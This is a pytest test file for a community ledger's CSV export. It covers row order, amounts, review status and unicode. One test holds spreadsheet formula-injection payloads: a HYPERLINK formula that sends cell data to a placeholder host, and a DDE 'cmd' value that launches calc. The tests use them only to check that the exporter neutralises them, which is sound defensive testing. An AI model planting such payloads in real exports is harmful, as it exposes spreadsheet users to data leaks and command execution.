"""The ledger CSV, read back with the csv module: one row per entry, review status, no formula injection."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io

import pytest

from sync.community.demo import demo_keys, demo_signers, demo_view, member_id
from sync.community.formats import export_json, import_json, ledger_csv
from sync.community.ledger import check_ledger
from sync.community.model import EntryKind, Member, Role
from sync.community.signed import CREDIT_UNIT, KeyringVerifier, LedgerEntry
from sync.community.view import CommunityView
from sync.identity import DeviceSigner

TODAY = dt.date(2026, 11, 24)
AT = dt.datetime(2026, 6, 1, 17, 0, tzinfo=dt.UTC)
HEADER = [
    "id", "at", "kind", "author", "author_name", "counterparty", "counterparty_name", "amount", "amount_minor",
    "unit", "ref", "round", "memo",
]  # fmt: skip


@pytest.fixture(scope="module")
def view() -> CommunityView:
    return demo_view(TODAY)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_one_row_per_entry_in_document_order(view: CommunityView) -> None:
    text = ledger_csv(view)
    assert text.splitlines()[0].split(",") == HEADER
    assert "\r\n" in text
    parsed = rows(text)
    assert [r["id"] for r in parsed] == [e.id for e in view.ledger]
    for row, entry in zip(parsed, view.ledger, strict=True):
        assert row["kind"] == entry.kind.value
        assert row["author"] == entry.author
        assert row["author_name"] == view.members[entry.author].name
        assert row["counterparty"] == entry.counterparty
        assert int(row["amount_minor"]) == entry.amount_minor
        assert row["unit"] == entry.unit
        assert row["ref"] == entry.ref
        assert row["round"] == ("" if entry.round is None else str(entry.round))
        assert row["memo"] == entry.memo
        assert dt.datetime.fromisoformat(row["at"]) == entry.at
        assert row["at"].endswith("Z")


def test_amounts_are_decimals_with_their_currency(view: CommunityView) -> None:
    parsed = rows(ledger_csv(view))
    repayment = next(r for r in parsed if r["kind"] == "repayment" and r["amount_minor"] == "7875")
    assert repayment["amount"] == "78.75 GBP"
    transfer = next(r for r in parsed if r["kind"] == "credit_transfer")
    assert transfer["amount"] == f"{transfer['amount_minor']} min"
    assert transfer["unit"] == CREDIT_UNIT
    contribution = next(r for r in parsed if r["kind"] == "circle_contribution")
    assert contribution["amount"] == "50.00 GBP"
    assert contribution["round"] in {"0", "1", "2"}


def test_with_a_report_every_demo_entry_is_accepted(view: CommunityView) -> None:
    parsed = rows(ledger_csv(view, check_ledger(view, demo_keys())))
    assert list(parsed[0])[-2:] == ["status", "reason"]
    assert {r["status"] for r in parsed} == {"accepted"}
    assert {r["reason"] for r in parsed} == {""}


def test_entries_needing_review_say_why(view: CommunityView) -> None:
    payer = member_id("leon")
    signer = demo_signers()[payer]
    tampered = dataclasses.replace(view.ledger[-1], amount_minor=view.ledger[-1].amount_minor + 1)
    too_much = LedgerEntry(
        "zz-too-much", EntryKind.CREDIT_TRANSFER, payer, signer.device_id.hex, 100_000, CREDIT_UNIT, AT,
        counterparty=member_id("ada"),
    ).signed_by(signer)  # fmt: skip
    bigger = dataclasses.replace(view, ledger=(*view.ledger, tampered, too_much))
    # The report may come from another copy of the same view: entries are matched by value.
    report = check_ledger(import_json(export_json(bigger)), demo_keys())
    parsed = {r["id"]: r for r in rows(ledger_csv(bigger, report))}
    assert parsed["zz-too-much"]["status"] == "needs review"
    assert "credit limit" in parsed["zz-too-much"]["reason"]
    listed = rows(ledger_csv(bigger, report))
    assert [r["status"] for r in listed].count("needs review") == 2
    assert listed[-2]["status"] == "needs review"  # the tampered copy of the last entry
    assert listed[-2]["reason"].startswith("bad signature")
    assert listed[len(view.ledger) - 1]["status"] == "accepted"  # the genuine one, same id


def test_a_report_of_another_ledger_marks_unjudged_entries(view: CommunityView) -> None:
    other = check_ledger(CommunityView(name="Empty"), demo_keys())
    parsed = rows(ledger_csv(view, other))
    assert {r["status"] for r in parsed} == {"needs review"}
    assert all("different ledger" in r["reason"] for r in parsed)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_cells_that_would_run_as_formulas_are_neutralised(start: str) -> None:
    signer = DeviceSigner.generate()
    evil = f'{start}HYPERLINK("http://x.invalid/?"&A1,"click")'
    members = {
        "m1": Member(
            "m1", f"{start}cmd|' /C calc'!A0" if start != "\t" else "Tab", Role.ADMIN, (signer.device_id.hex,)
        ),
        "m2": Member("m2", "Bob", Role.MEMBER),
    }
    entry = LedgerEntry(
        "e1", EntryKind.CREDIT_TRANSFER, "m1", signer.device_id.hex, 30, CREDIT_UNIT, AT,
        counterparty="m2", memo=evil if start != "\t" else "ok",
    ).signed_by(signer)  # fmt: skip
    view = CommunityView(name="T", members=members, credit_limits={"m1": 60}, ledger=(entry,))
    (row,) = rows(ledger_csv(view, check_ledger(view, KeyringVerifier({"d": signer.public_key}))))
    if start != "\t":  # the model strips leading tabs from text, so a tab never reaches a cell
        assert row["memo"] == "'" + evil
        assert row["author_name"] == "'" + members["m1"].name
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert row["status"] == "accepted"


def test_commas_quotes_and_unicode_survive() -> None:
    signer = DeviceSigner.generate()
    memo = 'Paid "Zoë", for: soup, bread; thanks ✓'
    members = {
        "m1": Member("m1", "Łukasz, Jr.", Role.ADMIN, (signer.device_id.hex,)),
        "m2": Member("m2", "B", Role.MEMBER),
    }
    entry = LedgerEntry(
        "e1",
        EntryKind.CREDIT_TRANSFER,
        "m1",
        signer.device_id.hex,
        5,
        CREDIT_UNIT,
        AT,
        counterparty="m2",
        memo=memo,
    )
    (row,) = rows(ledger_csv(CommunityView(name="T", members=members, ledger=(entry,))))
    assert row["memo"] == memo
    assert row["author_name"] == "Łukasz, Jr."
    assert row["counterparty_name"] == "B"


def test_an_empty_ledger_is_just_the_header() -> None:
    assert ledger_csv(CommunityView(name="T")) == ",".join(HEADER) + "\r\n"
